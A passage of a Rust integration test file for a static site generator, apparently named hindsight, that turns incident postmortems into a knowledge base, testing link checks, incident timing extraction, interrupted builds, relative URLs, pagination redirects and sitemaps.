                "done",
                "2023-07-15"
            ),
            row(
                "Add a client reconnection check to the maintenance runbook",
                "DBA team",
                "open",
                "2023-07-31"
            ),
            row("Run a failover drill every quarter", "-", "open", "-"),
        ]
    );
}

#[test]
fn build_warns_of_broken_links_anchors_and_missing_images_where_check_reports_them() {
    let page = "---\ndate: 2024-01-01\n---\n# Slow search\n\nSee [the other](nothere.md), [b](b.md#nosuch) and [its timeline](b.md#timeline).\n\n![graph](nope.png) and the [runbook](/files/runbook.pdf).\n";
    let site = Site::with(&[
        ("content/a.md", page),
        (
            "content/b.md",
            "---\ndate: 2024-01-02\n---\n# Other\n\n## Timeline\n\nIt broke.\n",
        ),
        // Published at /files/runbook.pdf: the build writes it, so the link leads there.
        ("static/files/runbook.pdf", "%PDF"),
    ]);
    let o = site.build();
    assert!(o.status.success(), "warnings, not errors: {}", stderr(&o));
    let said = stderr(&o);
    let (_, found) = check_json(&site.root, &[]);
    let links: Vec<&serde_json::Value> = found
        .iter()
        .filter(|f| {
            ["broken-link", "broken-anchor", "missing-image"].contains(&f["rule"].as_str().unwrap())
        })
        .collect();
    assert_eq!(links.len(), 3, "{found:?}");
    for f in links {
        let at = format!("content/a.md:{}:{}", f["line"], f["column"]);
        assert!(said.contains(&at), "{at}: {said}");
        assert!(said.contains(f["message"].as_str().unwrap()), "{f}: {said}");
        let hint = f["hint"].as_str().unwrap();
        assert!(said.contains(&hint[..hint.len().min(40)]), "{f}: {said}");
    }
    assert!(said.contains("content/a.md:6:5"), "{said}");
    assert!(said.contains("content/a.md:8:1"), "{said}");
    assert!(!said.contains("#timeline` is not"), "{said}");
    assert!(!said.contains("runbook.pdf` leads nowhere"), "{said}");
    assert!(!said.contains('×'), "no finding is an error: {said}");
}

#[test]
fn build_reports_broken_links_at_their_configured_level_never_above_a_warning_and_honours_allow_comments(
) {
    let page = "---\ndate: 2024-01-01\n---\n# Slow search\n\nSee [the other](nothere.md).\n\n<!-- hindsight: allow missing-image -->\n![graph](nope.png)\n\n![chart](chart.png)\n";
    let site = Site::with(&[
        ("content/a.md", page),
        (
            "hindsight.toml",
            "[check.rules]\nbroken-link = \"off\"\nmissing-image = \"error\"\n",
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let said = stderr(&o);
    assert!(!said.contains("nothere.md"), "turned off: {said}");
    assert!(!said.contains("nope.png"), "silenced: {said}");
    assert!(said.contains("image `chart.png` does not exist"), "{said}");
    assert!(said.contains("content/a.md:11:1"), "{said}");
    assert!(
        !said.contains('×'),
        "an error for `check`, a warning for `build`: {said}"
    );
    // `check` is the gate, at the configured level.
    let (code, found) = check_json(&site.root, &[]);
    assert_eq!(code, Some(1));
    assert!(found
        .iter()
        .any(|f| f["rule"] == "missing-image" && f["level"] == "error" && f["line"] == 11));
}

#[test]
fn timestamps_in_leading_metadata_lines_or_a_milestones_table_give_the_times_to_detect_and_resolve()
{
    let site = Site::fixture("templates");
    site.build_ok();
    let page = |site: &Site, id: &str| site.page(&format!("incidents/{id}/index.html"));
    // FireHydrant: "**Started at:**" above the first section, Detected and Resolved in its
    // Milestones table.
    let fh = page(&site, "firehydrant-export-1042");
    assert!(
        fh.contains("<dt>Time to resolve</dt><dd>45 min</dd>"),
        "{fh}"
    );
    assert!(
        fh.contains("<dt>Time to detect</dt><dd>11 min</dd>"),
        "{fh}"
    );
    // incident.io's "- **Started:**" / "- **Resolved:**"; "Incident start:" / "Incident end:".
    let inc = page(&site, "INC-318");
    assert!(
        inc.contains("<dt>Time to resolve</dt><dd>2 h 23 min</dd>"),
        "{inc}"
    );
    let ir = page(&site, "IR-2022-14");
    assert!(
        ir.contains("<dt>Time to resolve</dt><dd>2 h 25 min</dd>"),
        "{ir}"
    );
    let site = Site::with(&[
        // A time without its zone states no instant.
        (
            "content/a.md",
            "# A\n\nStarted: 2024-05-02 10:14\nResolved: 2024-05-02 12:37\n\n## Summary\n\nText.\n",
        ),
        // Resolved before it started: neither is read.
        (
            "content/b.md",
            "# B\n\nStarted: 2024-05-02 10:14 UTC\nResolved: 2024-05-02 09:37 UTC\n\n## Summary\n\nText.\n",
        ),
        // Only before the first section, or in a Milestones table.
        (
            "content/c.md",
            "# C\n\n## Timeline\n\nStarted: 2024-05-02 10:14 UTC\n\nResolved: 2024-05-02 12:37 UTC\n",
        ),
        // The front matter's own timestamps are not mixed with the text's.
        (
            "content/d.md",
            "---\ndate: 2024-05-02\nstarted_at: 2024-05-02T10:00:00Z\n---\n# D\n\nResolved: 2024-05-02 12:37 UTC\n\n## Summary\n\nText.\n",
        ),
    ]);
    site.build_ok();
    for id in ["a", "b", "c", "d"] {
        let p = page(&site, id);
        assert!(
            !p.contains("<dt>Time to resolve</dt>") && !p.contains("<dt>Time to detect</dt>"),
            "{id}: {p}"
        );
    }
}

#[test]
fn a_firehydrant_tags_line_gives_the_postmortem_its_tags() {
    let site = Site::fixture("templates");
    site.build_ok();
    assert_eq!(
        site.incident("firehydrant-export-1042")["tags"],
        serde_json::json!(["email", "vendor"])
    );
    // The front matter's tags win.
    assert_eq!(
        site.incident("2023-09-14-dns-resolver-outage")["tags"],
        serde_json::json!(["postmortem", "networking"])
    );
}

#[test]
fn a_heading_that_repeats_the_file_name_of_an_id_and_a_title_gives_that_title() {
    let site = Site::fixture("templates");
    site.build_ok();
    let ir = site.incident("IR-2022-14");
    assert_eq!(ir["title"], "VPN gateway certificate expired");
}

/// The demo site (its config and postmortems, not the theme beside them) in a fresh folder,
/// with `seen` in place of the `seen` macro of the default theme's macros.html.
fn demo_with_seen_macro(seen: &str) -> Site {
    let site = Site::empty();
    copy_tree(&repo().join("content"), &site.root.join("content"));
    std::fs::copy(
        repo().join("hindsight.toml"),
        site.root.join("hindsight.toml"),
    )
    .unwrap();
    let macros =
        std::fs::read_to_string(repo().join("themes/default/templates/macros.html")).unwrap();
    let start = macros.find("{% macro seen(").unwrap();
    let end = macros.find("{% endmacro seen %}").unwrap() + "{% endmacro seen %}".len();
    let macros = format!("{}{seen}{}", &macros[..start], &macros[end..]);
    write_files(
        &site.root,
        &[("themes/default/templates/macros.html", &macros)],
    );
    site
}

#[test]
fn a_theme_that_overrides_the_seen_macro_names_the_incidents_beside_a_learning_its_way() {
    // A build renders each of those links once for all pages: with the site's macro.
    let site = demo_with_seen_macro(
        "{% macro seen(o, root) %}<a href=\"{{ root }}{{ o.url }}\">seen {{ o.id }}{% if o.by_similarity %} by similarity{% endif %}</a>{% endmacro seen %}",
    );
    site.build_ok();
    let learned = site.text("incidents/PM2022-002/index.html");
    assert!(
        learned.contains("Learned before in seen PM2022-001."),
        "{learned}"
    );
    assert!(
        learned.contains("Learned again later in seen PM2023-002"),
        "{learned}"
    );
    assert!(!learned.contains("(2022)"), "{learned}");
}

#[test]
fn a_seen_macro_that_does_not_render_fails_the_build_at_the_theme_s_macros() {
    let site = demo_with_seen_macro(
        "{% macro seen(o, root) %}<a href=\"{{ root }}{{ o.url }}\">{{ o.titel }}</a>{% endmacro seen %}",
    );
    let o = site.build();
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains("themes/default/templates/macros.html"),
        "{err}"
    );
    assert!(err.contains("cannot render the page `incidents/"), "{err}");
}

#[cfg(unix)]
#[test]
fn ctrl_c_during_a_build_keeps_the_previous_site_and_leaves_no_staging_folder() {
    // Enough postmortems that writing the site takes long enough to be interrupted.
    let files: Vec<(String, String)> = (0..400)
        .map(|i| {
            (
                format!("content/pm-{i:03}.md"),
                format!(
                    "# Queue {i} stalled after a deploy\n\nOn 2024-03-{:02} consumers of queue {i} stopped.\n\n## Lessons learned\n\n- Alert on consumer lag of queue {i}.\n\n## Action items\n\n- Add a lag alert for queue {i}.\n",
                    i % 28 + 1
                ),
            )
        })
        .collect();
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let site = Site::with(&files);
    site.build_ok();
    let before = tree(&site.out);
    let folder = site.out.parent().unwrap().to_path_buf();
    let staging = || {
        std::fs::read_dir(&folder)
            .unwrap()
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".hindsight-"))
            .collect::<Vec<_>>()
    };

    let mut child = bin()
        .args(["build", "--quiet", "--root"])
        .arg(&site.root)
        .arg("--out")
        .arg(&site.out)
        .spawn()
        .unwrap();
    // Interrupted once it writes the new site into its staging folder.
    while staging().is_empty() {
        assert!(
            child.try_wait().unwrap().is_none(),
            "the build ended before it made its staging folder: give it more postmortems"
        );
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    let killed = std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let status = child.wait().unwrap();

    assert_eq!(status.code(), Some(130), "{status:?}");
    assert_eq!(staging(), Vec::<String>::new());
    assert!(tree(&site.out) == before, "the previous site changed");
}

#[test]
fn the_export_gives_each_incident_s_times_from_front_matter_or_text_in_the_offset_written() {
    let site = Site::fixture("templates");
    write_files(
        &site.root,
        &[(
            "content/zoned.md",
            "---\ntitle: Zoned\ndate: 2024-06-01\nstarted_at: 2024-06-01T10:00:00+02:00\nresolved_at: 2024-06-01T11:30:00+02:00\n---\n\n# Zoned\n\nText.\n",
        )],
    );
    site.build_ok();
    let times = |id: &str| {
        let i = site.incident(id);
        [
            i["started_at"].clone(),
            i["detected_at"].clone(),
            i["resolved_at"].clone(),
        ]
    };
    // From the front matter, in its offset; a time it does not give is null.
    assert_eq!(
        times("zoned"),
        [
            serde_json::json!("2024-06-01T10:00:00+02:00"),
            serde_json::Value::Null,
            serde_json::json!("2024-06-01T11:30:00+02:00"),
        ]
    );
    // From labelled lines above the first section, and from FireHydrant's Milestones table.
    assert_eq!(
        times("INC-318"),
        [
            serde_json::json!("2024-05-02T10:14:00+00:00"),
            serde_json::Value::Null,
            serde_json::json!("2024-05-02T12:37:00+00:00"),
        ]
    );
    assert_eq!(
        times("firehydrant-export-1042"),
        [
            serde_json::json!("2023-12-04T07:55:00+00:00"),
            serde_json::json!("2023-12-04T08:06:00+00:00"),
            serde_json::json!("2023-12-04T08:40:00+00:00"),
        ]
    );
    // An incident with no times has the keys, null, as it has `severity`.
    let undated = site.incident("INC-2291");
    for key in ["started_at", "detected_at", "resolved_at"] {
        assert!(undated[key].is_null(), "{key}: {undated}");
    }
}

#[test]
fn an_incident_that_shares_one_word_with_each_of_two_incidents_is_only_possibly_related_to_their_lesson(
) {
    // dfds PM2022-002 "If service is critical, do a diff" shares "critical" with the node
    // priority-class incidents and "service" with a Windows service lesson: one word with each
    // other incident, never two with the same one.
    let site = Site::fixture("dfds");
    site.build_ok();
    let id = learning_of(&site, "PM2022-002", "If service is critical");
    assert_eq!(
        id,
        "implement-priority-classes-for-critical-workloads-it-can"
    );
    let g = exported_learning(&site, &id);
    assert_eq!(g["tentative"], false);
    assert_eq!(g["possibly_related"], serde_json::json!(["PM2022-002"]));
    let item = learned_item(&site, "PM2022-002", "If service is critical");
    assert!(item.contains("Possibly related: PM2019-010"), "{item}");
    assert!(!item.contains("Learned before in"), "{item}");
    // GitOps rushed to production and "do not rush a fix" share "rush" alone.
    let g = exported_learning(
        &site,
        "new-tool-component-gitops-shouldn-t-have-been-rushed",
    );
    assert_eq!(g["possibly_related"], serde_json::json!(["PM2023-001"]));
}

#[test]
fn a_word_a_third_of_the_incidents_use_is_no_evidence_of_one_lesson_as_a_concept_they_evoke_is_none(
) {
    // Quayside: a daily report of route durations that alerts "on drift" shares "drift" with
    // Argo CD and decK config drift detection, and "alert", a word 21 of its 30 incidents use.
    let site = Site::fixture("quayside");
    site.build_ok();
    let g = exported_learning(&site, "argo-cd-drift-detection-on-the-payments");
    assert_eq!(g["tentative"], false);
    assert_eq!(g["possibly_related"], serde_json::json!(["QS-2023-013"]));
    // dfds: "alert noise is still too high" and "everyone gets notification on alerts" share
    // only "alert", which 15 of its 39 incidents use.
    let site = Site::fixture("dfds");
    site.build_ok();
    let g = exported_learning(&site, "genearl-alert-noise-is-still-too-high");
    assert_eq!(g["tentative"], true);
    assert_eq!(
        g["incidents"],
        serde_json::json!(["PM2020-005", "PM2021-005"])
    );
}

#[test]
fn with_a_base_url_pages_link_relatively_so_a_deploy_preview_stays_on_its_own_host() {
    let site = Site::with(&[
        ("hindsight.toml", "base_url = \"https://kb.example.org/pm/\"\n"),
        (
            "content/PM2024-001 - Disk full.md",
            "---\ndate: 2024-03-01\ntags: [disk]\naliases: [old-disk]\n---\n# Disk full\n\n## Summary\n\nThe disk filled up.\n",
        ),
    ]);
    site.build_ok();
    for page in [
        "index.html",
        "incidents/PM2024-001/index.html",
        "search/index.html",
        "tags/disk/index.html",
        "learnings/index.html",
    ] {
        let html = site.page(page);
        assert!(!html.contains("kb.example.org"), "{page}: {html}");
    }
    let incident = site.page("incidents/PM2024-001/index.html");
    assert!(
        incident.contains("href=\"../../static/style.css"),
        "{incident}"
    );
    // What must be absolute still is.
    assert!(site
        .page("feed.xml")
        .contains("https://kb.example.org/pm/incidents/PM2024-001/"));
    assert!(site
        .page("sitemap.xml")
        .contains("<loc>https://kb.example.org/pm/incidents/PM2024-001/</loc>"));
    assert_eq!(
        site.incident("PM2024-001")["url"],
        "https://kb.example.org/pm/incidents/PM2024-001/"
    );
    // The 404 page, served at any address, starts at the base URL's path on whatever host.
    let not_found = site.page("404.html");
    assert!(
        not_found.contains("href=\"/pm/static/style.css"),
        "{not_found}"
    );
    assert!(!not_found.contains("kb.example.org"), "{not_found}");
    // An old URL's page leads to the new one relatively; its canonical link is absolute.
    let moved = site.page("incidents/old-disk/index.html");
    assert!(
        moved.contains("url=../../incidents/PM2024-001/\""),
        "{moved}"
    );
    assert!(
        moved
            .contains("rel=\"canonical\" href=\"https://kb.example.org/pm/incidents/PM2024-001/\""),
        "{moved}"
    );
}

/// A postmortem's text with a heading, a date and the sections every postmortem has.
fn folder_postmortem(title: &str, date: &str) -> String {
    format!(
        "# {title}\n\nDate: {date}\n\n## Summary\n\nInternal DNS failed for a third of the pods in eu-west, because an \
         autoscaler change scaled CoreDNS down.\n\n## Impact\n\nCheckout returned errors for 45 minutes.\n\n\
         ## Lessons learned\n\n- Autoscaler changes to core services need a review by the owning team.\n"
    )
}

#[test]
fn a_folder_per_incident_with_its_text_in_a_readme_is_read_as_that_folders_postmortem() {
    let site = Site::with(&[
        // The content folder's own README stays a repository file, as does a tool folder's.
        (
            "content/README.md",
            "# Postmortems\n\nOne folder per incident.\n",
        ),
        ("content/tools/README.md", "# Tools\n\nScripts we use.\n"),
        (
            "content/INC-201/README.md",
            &folder_postmortem("INC-201: DNS failures", "2024-06-01"),
        ),
        (
            "content/INC-202/README.md",
            &format!(
                "{}\nIt repeated [INC-201](../INC-201/).\n",
                folder_postmortem("DNS failures again", "2024-06-02")
            ),
        ),
        ("content/INC-202/graph.png", "png"),
    ]);
    site.build_ok();
    assert_eq!(exported(&site.out, "id"), ["INC-202", "INC-201"]);
    let first = site.incident("INC-201");
    assert_eq!(first["title"], "DNS failures");
    assert_eq!(first["date"], "2024-06-01");
    // A link to the folder, as GitHub shows its README, leads to the folder's postmortem.
    assert!(
        site.page("incidents/INC-202/index.html")
            .contains("href=\"../../incidents/INC-201/\""),
        "{}",
        site.page("incidents/INC-202/index.html")
    );
}

#[test]
fn a_postmortem_named_only_for_what_it_is_takes_its_id_title_and_date_from_its_folder() {
    let text = |title: &str| {
        format!("# {title}\n\n## Summary\n\nIt broke.\n\n## Lessons learned\n\n- Alert sooner.\n")
    };
    let site = Site::with(&[
        ("content/INC-101/postmortem.md", &text("Cache stampede")),
        ("content/INC-102/postmortem.md", &text("Queue backlog")),
        ("content/INC-103/Post-Mortem.md", &text("Disk full")),
        (
            "content/2024-05-06-cache/index.md",
            "## Summary\n\nThe cache was cold.\n",
        ),
        // At the top of the content folder the file's own name is all there is.
        ("content/report.md", &text("Quarterly report")),
    ]);
    site.build_ok();
    let mut ids = exported(&site.out, "id");
    ids.sort();
    assert_eq!(
        ids,
        [
            "2024-05-06-cache",
            "INC-101",
            "INC-102",
            "INC-103",
            "report"
        ]
    );
    let bundle = site.incident("2024-05-06-cache");
    assert_eq!(bundle["title"], "Cache");
    assert_eq!(bundle["date"], "2024-05-06");
    assert_eq!(site.incident("INC-101")["title"], "Cache stampede");
}

#[test]
fn the_build_summary_line_says_how_many_postmortems_were_left_out_as_drafts() {
    // `hindsight new` writes a draft: a build right after it must say why the site lacks it.
    let site = Site::with(&[
        (
            "content/2024-01-01-db.md",
            "---\ntitle: DB down\n---\n\n## Learnings\n\n- Alert on replica lag before failover.\n",
        ),
        (
            "content/2024-02-01-cache.md",
            "---\ntitle: Cache down\nstatus: draft\n---\n\n## Learnings\n\n- Cache keys need a version prefix.\n",
        ),
    ]);
    let build = |extra: &[&str]| {
        bin()
            .arg("build")
            .args(extra)
            .arg("--root")
            .arg(&site.root)
            .arg("--out")
            .arg(&site.out)
            .output()
            .unwrap()
    };
    let o = build(&[]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(
            "Built 1 incident (1 postmortem left out as draft, in review or internal; --drafts builds it), 1 learning"
        ),
        "{}",
        stderr(&o)
    );
    // With --drafts nothing is left out, and the line says nothing of it.
    let o = build(&["--drafts"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("Built 2 incidents, 2 learnings"),
        "{}",
        stderr(&o)
    );
    assert!(!stderr(&o).contains("left out"), "{}", stderr(&o));
}

#[test]
fn the_build_summary_line_counts_learnings_as_the_stats_page_does() {
    let site = Site::with(&[
        (
            "content/2024-01-01-db.md",
            "---\ntitle: DB down\n---\n\n## Learnings\n\n- Alert on replica lag before failover.\n",
        ),
        (
            "content/2024-02-01-cache.md",
            "---\ntitle: Cache down\n---\n\n## Learnings\n\n- Cache keys need a version prefix.\n",
        ),
    ]);
    let o = bin()
        .args(["build", "--root"])
        .arg(&site.root)
        .arg("--out")
        .arg(&site.out)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let said = format!("{}{}", String::from_utf8_lossy(&o.stdout), stderr(&o));
    let stats = site.text("stats/index.html");
    assert!(
        stats.contains("0 of 2 learnings seen in two or more incidents"),
        "{stats}"
    );
    assert!(
        said.contains("2 learnings (0 in two or more incidents)"),
        "{said}"
    );
}

/// A site of five incidents of 2024, newest first INC-5 .. INC-1, all tagged `db`.
fn five_incident_site(root: &Path, config: &str) {
    for n in 1..=5 {
        write_files(
            root,
            &[(
                &format!("content/INC-{n}.md"),
                &format!(
                    "---\nid: INC-{n}\ntitle: Outage {n}\ndate: 2024-05-0{n}\ntags: [db]\n---\n\n## Summary\n\nThe database stopped, time {n}.\n"
                ),
            )],
        );
    }
    write_files(root, &[("hindsight.toml", config)]);
}

#[test]
fn long_lists_are_cut_into_pages_that_link_each_other_and_are_all_in_the_sitemap() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    five_incident_site(
        &root,
        "title = \"KB\"\nbase_url = \"https://kb.example.org/\"\npaginate_by = 2\n",
    );
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap_or_else(|_| panic!("{p}"));
    for list in ["incidents/", "tags/db/", "years/2024/"] {
        // The first page keeps the list's URL; the others are <list>/page/N/, and no more.
        let first = read(&format!("{list}index.html"));
        let second = read(&format!("{list}page/2/index.html"));
        let third = read(&format!("{list}page/3/index.html"));
        assert!(!out.join(format!("{list}page/4")).exists(), "{list}");
        // Each page shows its own incidents, newest first.
        for (page, ids) in [(&first, ["INC-5", "INC-4"]), (&second, ["INC-3", "INC-2"])] {
            for id in ids {
                assert!(page.contains(&format!("incidents/{id}/\"")), "{list}: {id}");
            }
        }
        assert!(third.contains("incidents/INC-1/\"") && !third.contains("incidents/INC-2/\""));
        assert!(!first.contains("incidents/INC-3/\""), "{list}");
        // The title says which page of how many.
        assert!(
            second.contains(", page 2 of 3 · KB</title>"),
            "{list}: {second}"
        );
        assert!(first.contains(", page 1 of 3 · KB</title>"), "{list}");
        // A navigation of pages, with the current one marked, and links in the head.
        assert!(
            second.contains("<nav class=\"pages\" aria-label=\"Pages\">"),
            "{list}"
        );
        let up = "../".repeat(list.matches('/').count() + 2);
        assert!(
            second.contains(&format!(
                "<a href=\"{up}{list}page/2/\" aria-current=\"page\">"
            )),
            "{list}: {second}"
        );
        assert_eq!(
            second.matches("aria-current=\"page\"><span").count(),
            2,
            "{list}"
        );
        assert!(
            second.contains(&format!("<link rel=\"prev\" href=\"{up}{list}\">")),
            "{list}: {second}"
        );
        assert!(
            second.contains(&format!("<link rel=\"next\" href=\"{up}{list}page/3/\">")),
            "{list}"
        );
        assert!(!first.contains("rel=\"prev\"") && first.contains("rel=\"next\""));
        assert!(third.contains("rel=\"prev\"") && !third.contains("rel=\"next\""));
    }
    let sitemap = read("sitemap.xml");
    for url in [
        "incidents/",
        "incidents/page/2/",
        "incidents/page/3/",
        "tags/db/page/3/",
        "years/2024/page/2/",
    ] {
        assert!(
            sitemap.contains(&format!("<loc>https://kb.example.org/{url}</loc>")),
            "{url} not in the sitemap"
        );
    }
    assert!(!sitemap.contains("page/4/"));
    // Page 1 is the list itself: a redirect, which the sitemap does not name.
    assert!(!sitemap.contains("page/1/") && !sitemap.contains("page/<"));
}

#[test]
fn page_1_of_a_long_list_and_its_page_folder_redirect_to_the_list_as_an_alias_does() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    five_incident_site(
        &root,
        "title = \"KB\"\nbase_url = \"https://kb.example.org/pm/\"\npaginate_by = 2\n",
    );
    // A tag of one incident: its list fits on one page, and has no page 1 to redirect.
    write_files(
        &root,
        &[(
            "content/INC-6.md",
            "---\nid: INC-6\ntitle: Outage 6\ndate: 2023-05-06\ntags: [cache]\n---\n\n## Summary\n\nThe cache stopped.\n",
        )],
    );
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap_or_else(|_| panic!("{p}"));
    for (list, title) in [
        ("incidents/", "All incidents"),
        ("tags/db/", "Tag: db"),
        ("years/2024/", "Year: 2024"),
    ] {
        for from in ["page/1/", "page/"] {
            let page = read(&format!("{list}{from}index.html"));
            // The redirect page of an alias: relative, with a canonical link under the base URL.
            let target = format!(
                "{}{list}",
                "../".repeat(list.matches('/').count() + from.matches('/').count())
            );
            assert!(
                page.contains(&format!("<title>Moved: {title}</title>")),
                "{list}{from}: {page}"
            );
            assert!(
                page.contains(&format!(
                    "<meta http-equiv=\"refresh\" content=\"0; url={target}\">"
                )),
                "{list}{from}: {page}"
            );
            assert!(
                page.contains(&format!(
                    "<link rel=\"canonical\" href=\"https://kb.example.org/pm/{list}\">"
                )),
                "{list}{from}"
            );
            assert!(
                page.contains(&format!("<a href=\"{target}\">{title}</a>")),
                "{list}{from}"
            );
        }
    }
    // A list on one page has none, nor a folder `page/`.
    assert!(out.join("tags/cache/index.html").is_file());
    assert!(!out.join("tags/cache/page").exists() && !out.join("years/2023/page").exists());
    // And a Netlify rule each, under the base path, in the order of their URLs.
    assert_eq!(
        read("_redirects"),
        "/pm/incidents/page/ /pm/incidents/ 301\n/pm/incidents/page/1/ /pm/incidents/ 301\n\
         /pm/tags/db/page/ /pm/tags/db/ 301\n/pm/tags/db/page/1/ /pm/tags/db/ 301\n\
         /pm/years/2024/page/ /pm/years/2024/ 301\n/pm/years/2024/page/1/ /pm/years/2024/ 301\n"
    );
    // The sitemap names pages, not redirects; and against itself `check --baseline` finds no
    // URL dropped.
    let sitemap = read("sitemap.xml");
    assert!(sitemap.contains("<loc>https://kb.example.org/pm/incidents/page/2/</loc>"));
    assert!(
        !sitemap.contains("page/1/") && !sitemap.contains("page/</loc>"),
        "{sitemap}"
    );
    let baseline = tmp.path().join("old-sitemap.xml");
    std::fs::write(&baseline, &sitemap).unwrap();
    let (code, findings) = check_json(&root, &["--baseline", baseline.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{findings:#?}");
    assert!(
        !findings.iter().any(|f| f["rule"] == "dropped-url"),
        "{findings:#?}"
    );
}

#[test]
fn incidents_of_no_severity_longer_than_a_page_get_a_list_of_their_own_in_pages() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    // INC-1..5 record no severity (tagged `db`), INC-6 has SEV2; a scale level slugs as
    // `unrecorded`, so the group's list takes `unrecorded-2`.
    five_incident_site(
        &root,
        "title = \"KB\"\nbase_url = \"https://kb.example.org/\"\npaginate_by = 2\nseverities = [\"SEV1\", \"SEV2\", \"Unrecorded\"]\n",
    );
    write_files(
        &root,
        &[(
            "content/INC-6.md",
            "---\nid: INC-6\ntitle: Outage 6\ndate: 2024-06-01\nseverity: SEV2\n---\n\n## Summary\n\nThe cache stopped.\n",
        )],
    );
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap_or_else(|_| panic!("{p}"));
    // The severity page links to the group's list, and lists none of its incidents itself.
    let index = read("severity/index.html");
    assert!(
        index.contains("<li id=\"no-severity\"><a href=\"../severity/unrecorded-2/\">No severity recorded <span class=\"count\">5<span class=\"visually-hidden\"> incidents</span>"),
        "{index}"
    );
    assert!(!index.contains("INC-"), "{index}");
    // The list, newest first, in pages of two, which link each other.
    let pages = [
        read("severity/unrecorded-2/index.html"),
        read("severity/unrecorded-2/page/2/index.html"),
        read("severity/unrecorded-2/page/3/index.html"),
    ];
    assert!(!out.join("severity/unrecorded-2/page/4").exists());
    for (page, ids) in pages.iter().zip([&[5, 4][..], &[3, 2], &[1]]) {
        let shown: Vec<usize> = page
            .split("<span class=\"id\">INC-")
            .skip(1)
            .map(|rest| rest[..rest.find('<').unwrap()].parse().unwrap())
            .collect();
        assert_eq!(shown, ids, "{page}");
        assert!(
            page.contains("<h1>No severity recorded <span class=\"count\">5 incidents</span></h1>")
        );
    }
    assert!(pages[0].contains("<title>No severity recorded, page 1 of 3 · KB</title>"));
    assert!(
        pages[1].contains("<link rel=\"next\" href=\"../../../../severity/unrecorded-2/page/3/\">"),
        "{}",
        pages[1]
    );
    // Page 1 and the page/ folder redirect to it, as every list's do.
    for from in ["page/1/", "page/"] {
        let page = read(&format!("severity/unrecorded-2/{from}index.html"));
        assert!(
            page.contains("<title>Moved: No severity recorded</title>"),
            "{page}"
        );
        assert!(page.contains(
            "<link rel=\"canonical\" href=\"https://kb.example.org/severity/unrecorded-2/\">"
        ));
    }
    assert!(
        read("_redirects").contains("/severity/unrecorded-2/page/1/ /severity/unrecorded-2/ 301\n")
    );
    // The stats page's row leads to it; the sitemap names its pages, not its redirects.
    assert!(read("stats/index.html").contains("href=\"../severity/unrecorded-2/\""));
    let sitemap = read("sitemap.xml");
    for url in [
        "severity/unrecorded-2/",
        "severity/unrecorded-2/page/2/",
        "severity/unrecorded-2/page/3/",
    ] {
        assert!(
            sitemap.contains(&format!("<loc>https://kb.example.org/{url}</loc>")),
            "{sitemap}"
        );
    }
    assert!(!sitemap.contains("unrecorded-2/page/1/") && !sitemap.contains("severity/unrecorded/"));
    // Against that sitemap, a build whose group fits on the severity page again (no list of
    // its own) drops no URL: the group's incidents are on `severity/`.
    let baseline = tmp.path().join("old-sitemap.xml");
    std::fs::write(&baseline, &sitemap).unwrap();
    let (code, findings) = check_json(&root, &["--baseline", baseline.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{findings:#?}");
    write_files(
        &root,
        &[(
            "hindsight.toml",
            "title = \"KB\"\nbase_url = \"https://kb.example.org/\"\nseverities = [\"SEV1\", \"SEV2\", \"Unrecorded\"]\n",
        )],
    );
    let (code, findings) = check_json(&root, &["--baseline", baseline.to_str().unwrap()]);
    assert_eq!(code, Some(0), "{findings:#?}");
    assert!(
        !findings.iter().any(|f| f["rule"] == "dropped-url"),
        "{findings:#?}"
    );
    let out = tmp.path().join("public-2");
    build_ok(&root, &out);
    let index = std::fs::read_to_string(out.join("severity/index.html")).unwrap();
    assert!(
        index.contains("<a href=\"#no-severity\">No severity recorded"),
        "{index}"
    );
    assert!(index.contains("<span class=\"id\">INC-1</span>"), "{index}");
    assert!(!out.join("severity/unrecorded-2").exists());
}

#[test]
fn page_1_of_a_list_gives_way_to_a_postmortem_or_an_alias_at_its_url() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    five_incident_site(&root, "title = \"KB\"\npaginate_by = 2\n");
    // A postmortem whose id is `page` has `incidents/page/`; an old URL of another is
    // `tags/db/page/1/`.
    write_files(
        &root,
        &[(
            "content/page.md",
            "---\nid: page\ntitle: Paging storm\ndate: 2023-01-01\naliases: [\"/tags/db/page/1/\"]\n---\n\n## Summary\n\nThe pager rang all night.\n",
        )],
    );
    let out = tmp.path().join("public");
    let o = build(&root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(!stderr(&o).contains("bad-alias"), "{}", stderr(&o));
    let read = |p: &str| std::fs::read_to_string(out.join(p)).unwrap_or_else(|_| panic!("{p}"));
    assert!(
        read("incidents/page/index.html").contains("<h1 id=\"incident-title\">Paging storm</h1>")
    );
    assert!(read("tags/db/page/1/index.html").contains("<title>Moved: Paging storm</title>"));
    let rules = read("_redirects");
    assert!(
        rules.contains("/incidents/page/1/ /incidents/ 301\n"),
        "{rules}"
    );
    assert!(
        rules.contains("/tags/db/page/1/ /incidents/page/ 301\n"),
        "{rules}"
    );
    assert!(
        !rules.starts_with("/incidents/page/ ")
            && !rules.contains("\n/incidents/page/ ")
            && !rules.contains("/tags/db/page/1/ /tags/db/"),
        "{rules}"
    );
}

#[test]
